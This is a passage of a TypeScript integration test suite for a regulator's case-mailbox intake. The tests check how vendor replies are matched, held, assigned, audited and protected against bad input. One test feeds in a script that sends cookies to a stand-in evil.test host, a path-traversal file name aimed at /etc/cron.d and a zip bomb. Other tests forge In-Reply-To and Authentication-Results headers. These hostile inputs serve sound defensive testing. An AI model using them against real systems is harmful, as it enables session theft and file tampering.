      await e.waitForMail('letter');
      const letterId = messageIdFor(e.handle.workflowId, 'letter', domain);
      await sender.append(deliveryReport({ to: caseMailbox, bouncedMessageId: letterId, recipient: 'privacy@early.test', messageId: `<${randomUUID()}@mx.early.test>` }));
      const [settled] = await intake.pass();
      expect(settled).toMatchObject({ outcome: 'recorded', effect: 'delivery-failure' });
      expect((await e.status()).stage).toBe('sending-letter');

      release();
      const waiting = await e.waitForStatus((s) => s.stage === 'letter-undeliverable');
      expect(waiting.nextDeadline).toBeUndefined();
      const [notice] = await e.waitForMail('officer-notice-undeliverable-letter');
      expect((await env.parsed([notice]))[0].text).toMatch(/The open letter did not reach Vendor early: .*No deadline runs/s);
      expect((await e.status()).remindersSent).toEqual([]);
    } finally {
      release();
      await e.handle.terminate('test over').catch(() => undefined);
    }
  }, 90_000);

  it('holds the reminders while a reply is under review, and they resume once it is dismissed', async () => {
    const policy = patientPolicy({ responseDue: '3s', reminderCadence: ['1s', '2s', '3s'], finalNoticeAfter: '60s', closeAfter: '60s' });
    const e = await startEngagement(env, engagementInput(env.uniqueId('paused'), 'paused', policy));
    await e.waitForMail('letter');
    const letterId = messageIdFor(e.handle.workflowId, 'letter', domain);
    await sender.append(await vendorReply(Object.assign(e, { letterId }), { attachments: [] }));
    await intake.pass();
    const review = await e.status();
    expect(review.stage).toBe('reply-received');
    const before = review.remindersSent.length;
    await new Promise((r) => setTimeout(r, 7_000));
    expect((await e.status()).remindersSent.length).toBe(before);
    await e.handle.executeUpdate(dismissInboundUpdate, { args: [{ by: officer, messageId: review.inbox![0].messageId, reason: 'not a response' }] });
    await e.waitForStatus((s) => s.remindersSent.length > before);
  }, 90_000);

  it('lets the officer dismiss a reply, and the engagement awaits the response again', async () => {
    const e = await openEngagement('webex');
    await sender.append(await vendorReply(e, { text: 'Could you resend the letter?', attachments: [] }));
    await intake.pass();
    const [message] = (await e.status()).inbox!;
    const after = await e.handle.executeUpdate(dismissInboundUpdate, { args: [{ by: officer, messageId: message.messageId, reason: 'a question, not a response' }] });
    expect(after.stage).toBe('awaiting-response');
  });
});

describe('bad input: never lost, never on the wrong case, never a crash', () => {
  it('dates a reply when the case mailbox received it, not by the Date header its sender wrote, also once assigned from the holding pen', async () => {
    const e = await openEngagement('zoom');
    const arrived = Math.floor(Date.now() / 1000) * 1000; // IMAP keeps arrival times to the second
    const backdated = new Date(Date.now() - 10 * 86_400_000);
    await sender.append(await vendorReply(e, { date: backdated }));
    await sender.append(await vendorReply(e, { from: 'counsel@lawfirm.test', date: backdated, messageId: `<backdated-held.${randomUUID()}@lawfirm.test>` }));
    const settled = await intake.pass();
    expect(settled.map((s) => s.outcome).sort()).toEqual(['held', 'recorded']);
    const held = await intake.held(e.input.campaign.id);
    await intake.assign(e.input.campaign.id, held[0]!.messageId, { campaignId: e.input.campaign.id, vendorId: 'zoom' }, officer);
    const inbox = (await e.status()).inbox!;
    expect(inbox).toHaveLength(2);
    for (const message of inbox) {
      expect(Date.parse(message.receivedAt)).toBeGreaterThanOrEqual(arrived);
      expect(Date.parse(message.receivedAt)).toBeLessThanOrEqual(Date.now());
    }
  });

  it('lists a held message in the pen by when the case mailbox received it, not by the Date header its sender wrote', async () => {
    const e = await openEngagement('zoom');
    const arrived = Math.floor(Date.now() / 1000) * 1000; // IMAP keeps arrival times to the second
    const backdated = new Date(Date.now() - 10 * 86_400_000);
    const messageId = `<backdated-pen.${randomUUID()}@lawfirm.test>`;
    await sender.append(await vendorReply(e, { from: 'counsel@lawfirm.test', date: backdated, messageId }));
    await intake.pass();
    const listed = (await intake.held(e.input.campaign.id)).find((h) => h.messageId === messageId);
    const read = await intake.read(e.input.campaign.id, messageId);
    for (const date of [listed?.date, read.date]) {
      expect(Date.parse(date ?? '')).toBeGreaterThanOrEqual(arrived);
      expect(Date.parse(date ?? '')).toBeLessThanOrEqual(Date.now());
    }
  });

  it('holds a reply from an address that is not the vendor’s, and the officer assigns it from the holding pen', async () => {
    const e = await openEngagement('zoom');
    await sender.append(await vendorReply(e, { from: 'someone@lawfirm.test' }));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'held', campaignId: e.input.campaign.id, reason: expect.stringContaining('not an address of Vendor zoom') });
    expect((await e.status()).inbox).toEqual([]);
    const held = await intake.held(e.input.campaign.id);
    expect(held).toEqual([expect.objectContaining({ from: 'someone@lawfirm.test', reason: expect.stringContaining('someone@lawfirm.test is not an address') })]);
    expect(await count(mailbox, ORIGINALS_FOLDER)).toBeGreaterThan(0);

    const result = await intake.assign(e.input.campaign.id, held[0].messageId, { campaignId: e.input.campaign.id, vendorId: 'zoom' }, officer);
    expect(result.effect).toBe('to-review');
    expect((await e.status()).inbox![0]).toMatchObject({ matchedBy: 'officer', assignedBy: officer, answersStep: 'letter' });
    expect(await intake.held(e.input.campaign.id)).toEqual([]);
    // Another officer's form on it, sent too late, is told where it went (web/pages.ts).
    expect(await intake.fate(held[0].messageId)).toEqual({ outcome: 'assigned', subject: held[0].subject, campaignId: e.input.campaign.id, vendorId: 'zoom', by: officer });
  });

  /** Counsel's reply with `mandate` attached, held (an address the case does not know), and its page in the campaign's pen as an officer reads it. */
  async function heldMandate(mandate: Buffer) {
    const e = await openEngagement('zoom');
    await sender.append(await vendorReply(e, { from: 'Counsel <counsel@lawfirm.test>', attachments: [{ filename: 'mandate.pdf', content: mandate, contentType: 'application/pdf' }] }));
    const [held] = await intake.pass();
    expect(held).toMatchObject({ outcome: 'held', campaignId: e.input.campaign.id });
    const app = workspace();
    const heldPage = await app.request(`/held/${e.input.campaign.id}/message?id=${encodeURIComponent(held.messageId)}`, as(['officer']));
    return { e, held, app, heldPage };
  }

  it('lets an officer download a held message’s attachment from its page in the holding pen, to judge the message before assigning it', async () => {
    const mandate = Buffer.from('%PDF-1.4\n% the vendor’s mandate to its counsel\n');
    const { e, held, app, heldPage } = await heldMandate(mandate);
    expect(heldPage.status).toBe(200);
    const href = attachmentLink(await heldPage.text(), 'mandate.pdf');
    expect(href, 'the attachment on the held message’s page is a link to its bytes').toBeDefined();
    await expectDownload(app, href!, mandate, `attachment; filename="mandate.pdf"; filename*=UTF-8''mandate.pdf`);
    // The holding pen is the officers': an auditor reads it no more than its pages.
    expect((await app.request(href!, as(['auditor']))).status).toBe(403);
    expect((await app.request(href!.replace(/n=1$/, 'n=2'), as(['officer']))).status).toBe(404);
    // The download is in the campaign's audit trail, as one of a held message's attachment; the refused and the missing are not.
    const { rows } = await downloadsInTrail({ campaignId: e.input.campaign.id }, 1);
    expect(rows).toEqual([
      expect.objectContaining({
        kind: 'document-downloaded',
        action: 'heldAttachmentDownloaded',
        actor: 'Owen (owen, signed in)',
        messageId: held.messageId,
        documentName: 'mandate.pdf',
        sha256: createHash('sha256').update(mandate).digest('hex'),
        downloadedVia: 'workspace',
      }),
    ]);
    // Still held: reading it decided nothing.
    expect(await count(mailbox, holdingFolder(e.input.campaign.id))).toBe(1);
  });

  it('shows a held attachment’s download in the export of the engagement the officer assigned its message to', async () => {
    const mandate = Buffer.from('%PDF-1.4\n% the mandate, read before assigning\n');
    const { e, held, app, heldPage } = await heldMandate(mandate);
    await expectDownload(app, attachmentLink(await heldPage.text(), 'mandate.pdf')!, mandate, `attachment; filename="mandate.pdf"; filename*=UTF-8''mandate.pdf`);
    await intake.assign(e.input.campaign.id, held.messageId, { campaignId: e.input.campaign.id, vendorId: 'zoom' }, officer);
    const { rows } = await downloadsInTrail({ campaignId: e.input.campaign.id, vendorId: 'zoom' }, 1);
    expect(rows).toEqual([
      expect.objectContaining({ workflowId: e.handle.workflowId, action: 'heldAttachmentDownloaded', actor: 'Owen (owen, signed in)', messageId: held.messageId, documentName: 'mandate.pdf', sha256: createHash('sha256').update(mandate).digest('hex'), size: mandate.length }),
    ]);
  });

  it('shows a download from the pen of mail that names no campaign in the case the message was later assigned to, and the rest in the unsorted pen’s own export', async () => {
    const e = await openEngagement('zoom');
    const unsorted = (messageId: string, name: string, content: Buffer) =>
      vendorReply(e, { from: 'Counsel <counsel@lawfirm.test>', to: caseMailbox, subject: 'Documents for the regulator', messageId, inReplyTo: undefined, references: undefined, attachments: [{ filename: name, content, contentType: 'application/pdf' }] });
    const [assignedId, strayId] = [`<power.${randomUUID()}@lawfirm.test>`, `<stray.${randomUUID()}@lawfirm.test>`];
    const power = Buffer.from('%PDF-1.4\n% a power of attorney, sent to no case\n');
    const stray = Buffer.from('%PDF-1.4\n% a stray file nobody assigns\n');
    await sender.append(await unsorted(assignedId, 'power.pdf', power));
    await sender.append(await unsorted(strayId, 'stray.pdf', stray));
    const settled = await intake.pass();
    expect(settled.map((s) => [s.messageId, s.outcome, (s as { campaignId?: string }).campaignId]).sort()).toEqual([[assignedId, 'held', undefined], [strayId, 'held', undefined]].sort());
    const app = workspace();
    const started = new Date().toISOString().slice(0, 19);
    for (const [messageId, name, bytes] of [[assignedId, 'power.pdf', power], [strayId, 'stray.pdf', stray]] as const) {
      const page = await app.request(`/held/unsorted/message?id=${encodeURIComponent(messageId)}`, as(['officer']));
      const href = attachmentLink(await page.text(), name);
      expect(href, `${name} is a link on its held message’s page`).toBeDefined();
      await expectDownload(app, href!, bytes, `attachment; filename="${name}"; filename*=UTF-8''${name}`);
    }
    await intake.assign(undefined, assignedId, { campaignId: e.input.campaign.id, vendorId: 'zoom' }, officer);

    // The engagement's export and the campaign's show the earlier download of the assigned message, marked as made while it named no campaign.
    const powerSha = createHash('sha256').update(power).digest('hex');
    const expected = { workflowId: e.handle.workflowId, kind: 'document-downloaded', action: 'heldAttachmentDownloaded', actor: 'Owen (owen, signed in)', messageId: assignedId, documentName: 'power.pdf', sha256: powerSha, size: power.length, downloadedVia: 'workspace', whileUnsorted: true };
    for (const scope of [{ campaignId: e.input.campaign.id, vendorId: 'zoom' }, { campaignId: e.input.campaign.id }]) {
      const { trail, rows } = await downloadsInTrail(scope, 1);
      expect(rows).toEqual([expect.objectContaining(expected)]);
      expect(rows[0]!.at >= started).toBe(true);
      expect(auditCsv(trail, { language: 'en' }).toString('utf8')).toContain(`${power.length} bytes; from the workspace; made while the message was held with the mail that names no campaign, before it became this case’s`);
      expect(auditCsv(trail, { language: 'fr' }).toString('utf8')).toContain('fait quand le message attendait avec le courrier qui ne nomme aucune campagne, avant qu’il soit versé à ce dossier');
    }

    // The message never assigned is in the unsorted pen's export, at the command line, in English and French.
    const csvFile = join(env.scratch, `unsorted-${randomUUID().slice(0, 6)}.csv`);
    const exported = await runDossier(env.childEnv, officer, ['audit', '--unsorted', '--out', csvFile]);
    expect(exported.code, exported.stderr).toBe(0);
    const csv = readFileSync(csvFile, 'utf8');
    const strayRow = csv.split('\r\n').find((line) => line.includes(strayId));
    expect(strayRow).toContain(`,access-unsorted,Document downloaded,"Owen (owen, signed in)",heldAttachmentDownloaded,${stray.length} bytes; from the workspace,${strayId},,stray.pdf,${createHash('sha256').update(stray).digest('hex')},`);
    const frFile = join(env.scratch, `unsorted-${randomUUID().slice(0, 6)}.csv`);
    expect((await runDossier(env.childEnv, officer, ['audit', '--unsorted', '--language', 'fr', '--out', frFile])).code).toBe(0);
    expect(readFileSync(frFile, 'utf8').split('\r\n').find((line) => line.includes(strayId))).toContain('pièce jointe d’un message en attente téléchargée');
    // A campaign and --unsorted are two trails: asking for both, or neither, is refused with how to ask.
    for (const args of [['audit'], ['audit', e.input.campaign.id, '--unsorted']]) {
      const refused = await runDossier(env.childEnv, officer, args);
      expect(refused.code).not.toBe(0);
      expect(refused.stderr).toContain('say which trail to export: a campaign id (and a vendor id for one engagement), or --unsorted');
    }
  });

  it('holds mail whose sender the border server did not verify, records the verified, and the officer vouches for the held', async () => {
    // The regulator's border server writes its verdict under its authserv-id; a sender can write a
    // header too, under any other id, and one under the trusted id would have been removed on the way in.
    const verifying = new Intake({ ...intakeOptions(), authservId: 'mx.regulator.test' });
    const verdict = (text: string) => ({ 'Authentication-Results': text });
    const e = await openEngagement('zoom');
    await sender.append(await vendorReply(e, { headers: verdict('mx.regulator.test; spf=pass smtp.mailfrom=zoom.test; dkim=fail header.d=zoom.test; dmarc=fail header.from=zoom.test') }));
    const [forged] = await verifying.pass();
    expect(forged).toMatchObject({ outcome: 'held', campaignId: e.input.campaign.id, reason: 'the sender could not be verified (an officer who knows the sender can assign it); the border mail server found: dmarc=fail for zoom.test, as mx.regulator.test found' });
    expect((await e.status()).inbox).toEqual([]);

    await sender.append(await vendorReply(e, { headers: verdict('relay.sender.test; dmarc=pass header.from=zoom.test') }));
    const [selfVouched] = await verifying.pass();
    expect(selfVouched).toMatchObject({ outcome: 'held', reason: expect.stringContaining('mx.regulator.test left no Authentication-Results on it') });

    await sender.append(await vendorReply(e, { headers: verdict('mx.regulator.test;\r\n  dkim=pass (good signature) header.d=zoom.test header.s=s1;\r\n  dmarc=pass (p=reject) header.from=zoom.test') }));
    const [verified] = await verifying.pass();
    expect(verified).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId });

    const held = await verifying.held(e.input.campaign.id);
    expect(held).toHaveLength(2);
    await verifying.assign(e.input.campaign.id, held[0]!.messageId, { campaignId: e.input.campaign.id, vendorId: 'zoom' }, officer);
    expect((await e.status()).inbox!.map((m) => m.matchedBy).sort()).toEqual(['officer', 'thread']);
  });

  it('never lets a forged In-Reply-To carry a vendor’s mail into another campaign’s case', async () => {
    const ours = await openEngagement('zoom');
    const theirs = await openEngagement('cisco');
    await sender.append(await vendorReply(ours, { inReplyTo: theirs.letterId, references: [theirs.letterId], to: caseMailbox, subject: 'Re: letter' }));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'held', campaignId: theirs.input.campaign.id });
    expect((await theirs.status()).inbox).toEqual([]);
  });

  it('holds malformed MIME that names no case, keeping every byte', async () => {
    const raw = Buffer.from(
      'From: privacy@zoom.test\r\nMessage-ID: <broken-' + randomUUID() + '@zoom.test>\r\nContent-Type: multipart/mixed; boundary="never-closed"\r\n\r\n--never-closed\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n@@@not base64@@@\r\n',
    );
    await sender.append(raw);
    const [settled] = await intake.pass();
    expect(settled.outcome).toBe('held');
    const originals: Buffer[] = [];
    for await (const m of mailbox.messages(ORIGINALS_FOLDER)) originals.push(m.raw);
    expect(originals.some((o) => o.equals(raw))).toBe(true);
    expect((await intake.held(undefined)).some((h) => h.messageId === settled.messageId)).toBe(true);
  });

  // 27 MB: over the document limit (25 MB), under the message limit (40 MB) once base64 makes it 37.
  it('records a reply with a 27 MB attachment, noting the attachment was not kept', async () => {
    const e = await openEngagement('bigfile');
    const huge = Buffer.alloc(27 * 1024 * 1024, 7);
    await sender.append(await vendorReply(e, { attachments: [{ filename: 'everything.bin', content: huge }] }));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'recorded' });
    const [message] = (await e.status()).inbox!;
    expect(message.documents).toEqual([]);
    expect(message.notes).toEqual([expect.stringMatching(/^everything\.bin is 27\.0 MB; documents may be at most 25\.0 MB\. It was not kept/)]);
    expect(await count(mailbox, RECORDED_FOLDER)).toBeGreaterThan(0);
  }, 120_000);

  it('keeps only the text of HTML with scripts, a zip bomb as the bytes sent, and a file name without its path', async () => {
    const e = await openEngagement('tricky');
    // 1 GiB of zeros compresses to about 1 MB: stored as received, never expanded.
    const bomb = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
    await sender.append(
      await vendorReply(e, {
        text: undefined,
        html: '<p>Our answers</p><script>fetch("https://evil.test/"+document.cookie)</script>',
        attachments: [
          { filename: '../../../etc/cron.d/evil', content: 'x' },
          { filename: 'bomb.zip', content: bomb, contentType: 'application/zip' },
        ],
      }),
    );
    const [settled] = await intake.pass();
    expect(settled.outcome).toBe('recorded');
    const [message] = (await e.status()).inbox!;
    expect(message.text).toContain('Our answers');
    expect(message.text).not.toMatch(/script|fetch|cookie/);
    expect(message.documents.map((d) => [d.name, d.size])).toEqual([
      ['evil', 1],
      ['bomb.zip', bomb.length],
    ]);
  });

  it('finds a campaign by the case reference in the subject without waiting on a campaign whose worker is gone', async () => {
    // A campaign whose worker stopped a moment ago: the server still lists its poller, so a query to
    // it waits for the server's deadline. In the full suite every earlier file leaves such campaigns.
    const goneQueue = `${env.taskQueue}-gone`;
    const gone = await createDossierWorker({ ...env.config, taskQueue: goneQueue }, { workflowBundle: { codePath: inject('workflowBundlePath') } });
    const goneRun = gone.run();
    const goneId = env.uniqueId('gone');
    const campaignOptions = (id: string, vendorId: string): CampaignInput => ({
      campaign: testCampaign(id),
      vendors: [testVendor(vendorId)],
      policy: patientPolicy(),
      approval: { kind: 'all' },
      publication: { folder: id, notifyVendors: false },
    });
    try {
      await new CampaignClient(env.client, { taskQueue: goneQueue, address: 'test' }).start(campaignOptions(goneId, 'gone'));
      await env.sink.waitFor(1, (m) => (m.messageId ?? '').includes(goneId));
    } finally {
      gone.worker.shutdown();
      await goneRun;
    }

    const liveId = env.uniqueId('live');
    await new CampaignClient(env.client, { taskQueue: env.taskQueue, address: 'test' }).start(campaignOptions(liveId, 'whereby'));
    const live = new DossierClient(env.client, { taskQueue: env.taskQueue, address: 'test' });
    const ref = { campaignId: liveId, vendorId: 'whereby' };
    await env.sink.waitFor(1, (m) => (m.messageId ?? '').includes(liveId));
    await until(() => live.status(ref), (s) => s.stage === 'awaiting-response', 'the live campaign’s letter to be sent');
    // No threading headers and no reply token: only the subject's case reference names the case.
    await sender.append(
      await composeReply({
        from: 'Privacy Office <privacy@whereby.test>',
        to: caseMailbox,
        subject: `Re: [${testCampaign(liveId).reference}] Open letter`,
        messageId: `<${randomUUID()}@whereby.test>`,
        text: 'Our response is below.',
      }),
    );
    const started = Date.now();
    const [settled] = await intake.pass();
    const took = Date.now() - started;
    expect(settled).toMatchObject({ outcome: 'recorded', workflowId: engagementWorkflowId(liveId, 'whereby') });
    expect((await live.status(ref)).inbox).toEqual([expect.objectContaining({ matchedBy: 'subject' })]);
    expect(took).toBeLessThan(5_000);
  }, 90_000);

  /** One campaign of two products of one company (their privacy offices share a domain): Teams withdrawn and ended, Skype awaiting its response. */
  async function teamsEndedBesideSkype(idPrefix: string) {
    const campaignId = env.uniqueId(idPrefix);
    const campaign = testCampaign(campaignId);
    const ended = { campaignId, vendorId: 'teams' };
    const other = { campaignId, vendorId: 'skype' };
    const dossier = new DossierClient(env.client, { taskQueue: env.taskQueue, address: 'test' });
    await new CampaignClient(env.client, { taskQueue: env.taskQueue, address: 'test' }).start({
      campaign,
      vendors: [testVendor('teams'), testVendor('skype', { contacts: [{ name: 'Skype DPO', email: 'dpo@teams.test' }] })],
      policy: patientPolicy(),
      approval: { kind: 'all' },
      publication: { folder: campaignId, notifyVendors: false },
    });
    await env.sink.waitFor(2, (m) => (m.messageId ?? '').includes(campaignId));
    for (const ref of [ended, other]) await until(() => dossier.status(ref), (s) => s.stage === 'awaiting-response', `${ref.vendorId}’s letter to be sent`);
    await dossier.withdraw(ended, { by: officer, reason: 'merged into the other product' });
    await env.client.workflow.getHandle(engagementWorkflowId(campaignId, 'teams')).result();
    return { campaignId, campaign, dossier, other };
  }

  it('holds a reply sent to the reply address of an ended engagement, never offering it to another vendor of the campaign at the same domain', async () => {
    // Two products of one company in one campaign: their privacy offices share a domain.
    const { campaignId, campaign, dossier, other } = await teamsEndedBesideSkype('ended');
    // A mail client that dropped the threading headers: the reply token and the subject name the case.
    await sender.append(
      await composeReply({
        from: 'Privacy Office <privacy@teams.test>',
        to: replyAddressFor(caseMailbox, engagementWorkflowId(campaignId, 'teams')),
        subject: `Re: [${campaign.reference}] Open letter`,
        messageId: `<${randomUUID()}@teams.test>`,
        text: 'Our late response about Teams.',
      }),
    );
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'held', campaignId, reason: expect.stringContaining(`${engagementWorkflowId(campaignId, 'teams')} refused: it has ended`) });
    expect((await dossier.status(other)).inbox).toEqual([]);
  }, 90_000);

  it('holds new mail from an ended engagement’s vendor that names only its campaign, never recording it on another vendor at the same domain', async () => {
    // Two products of one company: Teams has ended, Skype's privacy office shares Teams' domain.
    const { campaignId, campaign, dossier, other } = await teamsEndedBesideSkype('after');
    // A new message, not a reply: no threading headers, no reply token, the case reference in its subject.
    const fresh = async (from: string) => {
      await sender.append(
        await composeReply({ from, to: caseMailbox, subject: `[${campaign.reference}] Additional documents`, messageId: `<${randomUUID()}@teams.test>`, text: 'Further to our response, more documents.' }),
      );
      const [settled] = await intake.pass();
      return settled;
    };
    // Teams' own address: held, saying Teams' case has ended.
    expect(await fresh('Privacy Office <privacy@teams.test>')).toMatchObject({
      outcome: 'held',
      campaignId,
      reason: expect.stringContaining(`${engagementWorkflowId(campaignId, 'teams')} refused: it has ended`),
    });
    // Anyone else at the domain could be writing about either product.
    expect(await fresh('legal@teams.test')).toMatchObject({ outcome: 'held', campaignId, why: { code: 'ambiguous-sender', vendors: ['Vendor skype', 'Vendor teams'] } });
    expect((await dossier.status(other)).inbox).toEqual([]);
    // Skype's own contact still reaches Skype.
    expect(await fresh('dpo@teams.test')).toMatchObject({ outcome: 'recorded', workflowId: engagementWorkflowId(campaignId, 'skype') });
  }, 120_000);

  it('holds a late reply to the reply address of an ended engagement in its campaign’s pen, though its subject names no campaign', async () => {
    const campaignId = env.uniqueId('late');
    const ref = { campaignId, vendorId: 'teams' };
    const dossier = new DossierClient(env.client, { taskQueue: env.taskQueue, address: 'test' });
    await new CampaignClient(env.client, { taskQueue: env.taskQueue, address: 'test' }).start({
      campaign: testCampaign(campaignId),
      vendors: [testVendor('teams')],
      policy: patientPolicy(),
      approval: { kind: 'all' },
      publication: { folder: campaignId, notifyVendors: false },
    });
    await env.sink.waitFor(1, (m) => (m.messageId ?? '').includes(campaignId));
    await until(() => dossier.status(ref), (s) => s.stage === 'awaiting-response', 'the letter to be sent');
    await dossier.withdraw(ref, { by: officer, reason: 'test over' });
    await env.client.workflow.getHandle(engagementWorkflowId(campaignId, 'teams')).result();
    // Months later, from a mail client that dropped the threading headers and the case reference.
    await sender.append(
      await composeReply({
        from: 'Privacy Office <privacy@teams.test>',
        to: replyAddressFor(caseMailbox, engagementWorkflowId(campaignId, 'teams')),
        subject: 'Re: Open letter',
        messageId: `<${randomUUID()}@teams.test>`,
        text: 'Our very late response.',
      }),
    );
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'held', campaignId, reason: expect.stringContaining(`${engagementWorkflowId(campaignId, 'teams')} refused: it has ended`) });
  }, 90_000);

  it('takes a vendor’s reply to the published statement’s notice, as its mail client threads it, to its engagement, and holds it saying that case has ended', async () => {
    const campaignId = env.uniqueId('noticed');
    const ref = { campaignId, vendorId: 'kilo' };
    const dossier = new DossierClient(env.client, { taskQueue: env.taskQueue, address: 'test' });
    const campaigns = new CampaignClient(env.client, { taskQueue: env.taskQueue, address: 'test' });
    await campaigns.start({ campaign: testCampaign(campaignId), vendors: [testVendor('kilo')], policy: patientPolicy(), approval: { kind: 'all' }, publication: { folder: campaignId, notifyVendors: true } });
    await env.sink.waitFor(1, (m) => (m.messageId ?? '').includes(campaignId));
    await until(() => dossier.status(ref), (s) => s.stage === 'awaiting-response', 'the letter to be sent');
    await campaigns.editStatement(campaignId, { by: officer, conclusions: { en: ['Done.'], fr: ['Terminé.'] }, lessonsLearned: { en: ['Ask early.'], fr: ['Demander tôt.'] } });
    await campaigns.draftStatement(campaignId, officer, [{ vendorId: 'kilo', action: 'exclude', reason: { en: 'Published before this review ended.', fr: 'Publiée avant la fin de cet examen.' } }]);
    await until(() => campaigns.status(campaignId), (s) => s.phase === 'approving', 'the draft');
    await campaigns.approve(campaignId, { by: 'Daniel Therrien', authorityId: 'opc', version: 1 });
    await campaigns.approve(campaignId, { by: 'Adrian Lobsiger', authorityId: 'fdpic', version: 1 });
    // Published: the campaign and its engagement have ended, so the subject's case reference names no running campaign.
    await campaigns.result(campaignId);
    const [noticeMail] = await env.sink.waitFor(1, (m) => (m.messageId ?? '').startsWith(`<statement-notice-v1-vendor-kilo.campaign.${campaignId}@`));
    const notice = await simpleParser(noticeMail.raw);
    // What the engagement's own messages carry: its reply token, and its letter as the thread's root.
    const letterId = messageIdFor(engagementWorkflowId(campaignId, 'kilo'), 'letter', domain);
    expect(notice.replyTo?.value.map((a) => a.address)).toEqual([replyAddressFor(caseMailbox, engagementWorkflowId(campaignId, 'kilo'))]);
    expect(notice.inReplyTo).toBe(letterId);

    // The vendor answers the notice: its client writes to the Reply-To and threads the answer under the notice.
    await sender.append(
      await composeReply({
        from: 'Privacy Office <privacy@kilo.test>',
        to: notice.replyTo!.value[0].address!,
        subject: `Re: ${notice.subject}`,
        messageId: `<${randomUUID()}@kilo.test>`,
        inReplyTo: notice.messageId,
        references: [...[notice.references ?? []].flat(), notice.messageId!],
        text: 'We disagree with the statement’s account of our case.',
      }),
    );
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'held', campaignId, reason: expect.stringContaining(`${engagementWorkflowId(campaignId, 'kilo')} refused: it has ended`) });
  }, 150_000);

  it('holds a reply named only by its subject whose sender could be either of two vendors at one domain, and files one from a known contact at once', async () => {
    // Two products of one company in one campaign: their privacy offices share a domain.
    const campaignId = env.uniqueId('shared');
    const campaign = testCampaign(campaignId);
    const teams = { campaignId, vendorId: 'teams' };
    const skype = { campaignId, vendorId: 'skype' };
    const dossier = new DossierClient(env.client, { taskQueue: env.taskQueue, address: 'test' });
    await new CampaignClient(env.client, { taskQueue: env.taskQueue, address: 'test' }).start({
      campaign,
      vendors: [testVendor('teams'), testVendor('skype', { contacts: [{ name: 'Skype DPO', email: 'dpo@teams.test' }] })],
      policy: patientPolicy(),
      approval: { kind: 'all' },
      publication: { folder: campaignId, notifyVendors: false },
    });
    await env.sink.waitFor(2, (m) => (m.messageId ?? '').includes(campaignId));
    for (const ref of [teams, skype]) await until(() => dossier.status(ref), (s) => s.stage === 'awaiting-response', `${ref.vendorId}’s letter to be sent`);
    const bySubject = (from: string) =>
      composeReply({ from, to: caseMailbox, subject: `Re: [${campaign.reference}] Open letter`, messageId: `<${randomUUID()}@teams.test>`, text: 'Our response.' });
    await sender.append(await bySubject('Counsel <legal@teams.test>'));
    const [held] = await intake.pass();
    expect(held).toMatchObject({ outcome: 'held', campaignId, why: { code: 'ambiguous-sender', vendors: [testVendor('skype').name, testVendor('teams').name] } });
    await sender.append(await bySubject('Skype DPO <dpo@teams.test>'));
    const [recorded] = await intake.pass();
    expect(recorded).toMatchObject({ outcome: 'recorded', workflowId: engagementWorkflowId(campaignId, 'skype') });
    expect((await dossier.status(teams)).inbox).toEqual([]);
    expect((await dossier.status(skype)).inbox).toEqual([expect.objectContaining({ from: 'dpo@teams.test', matchedBy: 'subject' })]);
  }, 90_000);

  it('leaves a message in the inbox while Temporal does not accept it, and records it once it does', async () => {
    const e = await openEngagement('outage');
    await sender.append(await vendorReply(e));
    const failing = new Intake({
      mailbox,
      dossier: { recordHeldDismissal: async () => undefined, recordInbound: () => Promise.reject(new Error('14 UNAVAILABLE: connection refused')) },
      documents,
      directory: { engagementByToken: async () => undefined, campaignByReference: async () => undefined, vendorOf: () => Promise.reject(new Error('not asked')) },
      domain,
      caseMailbox,
    });
    const [left] = await failing.pass();
    expect(left).toMatchObject({ outcome: 'left', reason: expect.stringContaining('UNAVAILABLE') });
    expect(await count(mailbox, INBOX)).toBe(1);
    expect((await intake.pass())[0]).toMatchObject({ outcome: 'recorded', workflowId: engagementWorkflowId(e.input.campaign.id, 'outage') });
  });

  it('leaves a message in the inbox when its engagement does not answer in time, and goes on with the rest', async () => {
    const stuck = await openEngagement('stuck');
    const answering = await openEngagement('answering');
    await sender.append(await vendorReply(stuck));
    await sender.append(await vendorReply(answering));
    const real = intakeOptions().dossier;
    const hanging = new Intake({
      ...intakeOptions(),
      concurrency: 1,
      recordTimeoutMs: 1_000,
      dossier: { recordHeldDismissal: (input) => real.recordHeldDismissal(input), recordInbound: (ref, input, options) => (ref.vendorId === 'stuck' ? new Promise(() => undefined) : real.recordInbound(ref, input, options)) },
    });
    const started = Date.now();
    const settled = await hanging.pass();
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(settled).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ outcome: 'left', reason: expect.stringContaining('did not record the message within 1000 ms') }),
        expect.objectContaining({ outcome: 'recorded', workflowId: answering.handle.workflowId }),
      ]),
    );
    expect(await count(mailbox, INBOX)).toBe(1);
    expect((await intake.pass())[0]).toMatchObject({ outcome: 'recorded', workflowId: stuck.handle.workflowId });
  });
});

describe('the case mailbox\'s IMAP server down for a while', () => {
  it('says it cannot read the mailbox, connects again by itself once the server is back, and says so', { timeout: 60_000 }, async () => {
    const { host, port, password } = inject('imap');
    let relay = await tcpRelay(host, port);
    const address = relay.port;
    // A mailbox of its own, so the intake running here settles no other test's mail.
    const relayed = new ImapMailbox({ host: '127.0.0.1', port: address, secure: false, user: `down-${randomUUID().slice(0, 8)}`, password });
    await relayed.open();
    const lines: string[] = [];
    const stop = new AbortController();
    const running = new Intake({ ...intakeOptions(), mailbox: relayed, log: (line) => lines.push(line) }).run(stop.signal, 300);
    const said = (pattern: RegExp, what: string) => until(async () => lines.find((line) => pattern.test(line)), Boolean, what, 20_000, 100);
    try {
      await new Promise((resolve) => setTimeout(resolve, 500));
      // The server goes away: open connections cut, new ones refused.
      await relay.close();
      await said(/^intake: the case mailbox could not be read \(.*ECONNREFUSED.*\); trying again$/, 'the intake saying it cannot read the mailbox');
      relay = await tcpRelay(host, port, { port: address });
      const back = await said(/can be read again/, 'the intake saying it reads the mailbox again');
      expect(back).toMatch(/^intake: the case mailbox can be read again \(it could not be since \d{4}-\d\d-\d\dT[\d:.]+Z\)$/);
    } finally {
